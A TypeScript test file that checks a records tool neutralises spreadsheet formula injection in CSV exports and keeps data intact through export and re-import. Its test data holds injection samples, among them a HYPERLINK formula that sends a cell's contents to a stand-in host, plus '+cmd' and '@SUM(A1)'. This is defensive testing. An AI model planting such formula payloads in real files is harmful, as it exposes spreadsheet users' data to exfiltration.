import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { columnsOf, type Table } from '../../src/records/table.ts';
import { callbacks } from '../../src/records/tables/callbacks.ts';
import { people } from '../../src/records/tables/people.ts';
import { readings } from '../../src/records/tables/readings.ts';
import { rejects } from '../../src/records/tables/rejects.ts';
import { writeRefused } from '../../src/steps/refused-rows.ts';
import type { Store } from '../../src/store/store.ts';
import { exported, ingestFiles, inStore, tempFolder, unbalanced } from '../store/temp-store.ts';

const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', "'=", "''-", '＝', '＋', '－', '＠'];

/** Cells of text columns that a spreadsheet would run, or take for the beginning of another cell. */
function runnable(csv: string, table: Table): string[] {
  const texts = new Set(columnsOf(table).flatMap(({ kind, name }) => (kind === 'text' ? [name] : [])));
  const rows = parse<Record<string, string>>(csv, { columns: true });
  return rows.flatMap((row) =>
    Object.entries(row).flatMap(([name, cell]) =>
      texts.has(name) && /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell) ? [cell] : [],
    ),
  );
}

const ndjson = (rows: object[]) => rows.map((row) => JSON.stringify(row)).join('\n');

async function taken(store: Store, name: string, content: string) {
  const result = await ingestFiles(store, { [name]: content });
  expect(await unbalanced(store)).toEqual([]);
  return result;
}

const text = fc
  .tuple(fc.constantFrom('', '', ...beginnings), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 8 }))
  .map(([first, rest]) => (first + rest).trim())
  .filter((whole) => whole !== '' && !whole.includes('\0') && !whole.includes('\uFFFD'));

test('what is exported as CSV comes in again as it was, and no cell of it begins as a formula does', async () => {
  await fc.assert(
    fc.asyncProperty(fc.uniqueArray(text, { minLength: 8, maxLength: 20 }), fc.array(text), async (ids, notes) => {
      const given = {
        'people.ndjson': ndjson(ids.map((id, index) => ({ technician_id: id, display_name: notes[index] }))),
        'readings.ndjson': ndjson(ids.map((id, index) => ({ job_id: id, elapsed_s: -index, gauge: notes[index] }))),
      };
      const first = await inStore(join(tempFolder(), 'store'), async (store) => {
        await ingestFiles(store, given);
        const files = {
          'people.csv': await exported(store, 'people'),
          'readings.csv': await exported(store, 'readings'),
        };
        return {
          files,
          rows: [await exported(store, 'people', 'ndjson'), await exported(store, 'readings', 'ndjson')],
        };
      });
      expect(runnable(first.files['people.csv'], people)).toEqual([]);
      expect(runnable(first.files['readings.csv'], readings)).toEqual([]);
      await inStore(join(tempFolder(), 'store'), async (store) => {
        await ingestFiles(store, first.files);
        expect(await unbalanced(store)).toEqual([]);
        expect([await exported(store, 'people', 'ndjson'), await exported(store, 'readings', 'ndjson')]).toEqual(
          first.rows,
        );
        expect(await exported(store, 'people')).toBe(first.files['people.csv']);
      });
    }),
    { numRuns: 4, seed: 7 },
  );
});

describe('a file that only looks like an export keeps its apostrophes', () => {
  const ids = (store: Store) => store.rows('SELECT technician_id AS id FROM people ORDER BY ALL');
  test.each([
    ['other columns', "technician_id,display_name\n'=1,x\n", ["'=1"]],
    ['columns in another order', "display_name,technician_id,hired_on\nx,'=1,\n", ["'=1"]],
    ['a text that begins bare', "technician_id,display_name,hired_on\n'-5,x,\n-5,y,\n", ["'-5", '-5']],
    ['no formula behind it', "technician_id,display_name,hired_on\n't Hooft,x,\n", ["'t Hooft"]],
  ])('%s', async (_, csv, wanted) => {
    await inStore(join(tempFolder(), 'store'), async (store) => {
      await taken(store, 'people.csv', csv);
      expect((await ids(store)).map(({ id }) => id)).toEqual(wanted);
    });
  });

  test('an export of ours has them taken off', async () => {
    await inStore(join(tempFolder(), 'store'), async (store) => {
      await taken(store, 'people.csv', "technician_id,display_name,hired_on\n'=1,O'Brien,\n''=1,x,\n");
      expect((await ids(store)).map(({ id }) => id)).toEqual(["'=1", '=1']);
    });
  });
});

test('free text, and the refused rows word for word, run nothing either', async () => {
  await inStore(join(tempFolder(), 'store'), async (store) => {
    const link = '=HYPERLINK("http://example.invalid?"&A1)';
    await taken(
      store,
      'callbacks.ndjson',
      ndjson([
        { callback_id: '@SUM(A1)', reported_at: '2026-03-05T14:30:00Z', reason: link, cause_found: '-2+3' },
        { callback_id: 'b', reported_at: '+cmd', reason: 'x' },
      ]),
    );
    await taken(store, 'people.csv', 'technician_id,hired_on\n=1+1,soon\n');
    const out = join(tempFolder(), 'refused.csv');
    await writeRefused(store, out);
    const refused = readFileSync(out, 'utf8');
    expect(refused).toContain(`'=1+1,soon`);
    expect(runnable(refused, rejects)).toEqual([]);
    expect(runnable(await exported(store, 'rejects'), rejects)).toEqual([]);
    const csv = await exported(store, 'callbacks');
    expect(csv).toContain(`"'=HYPERLINK(""http`);
    expect(runnable(csv, callbacks)).toEqual([]);
    // Other formats are read by programs only.
    expect(await exported(store, 'callbacks', 'ndjson')).toContain('"callback_id":"@SUM(A1)"');
  });
});
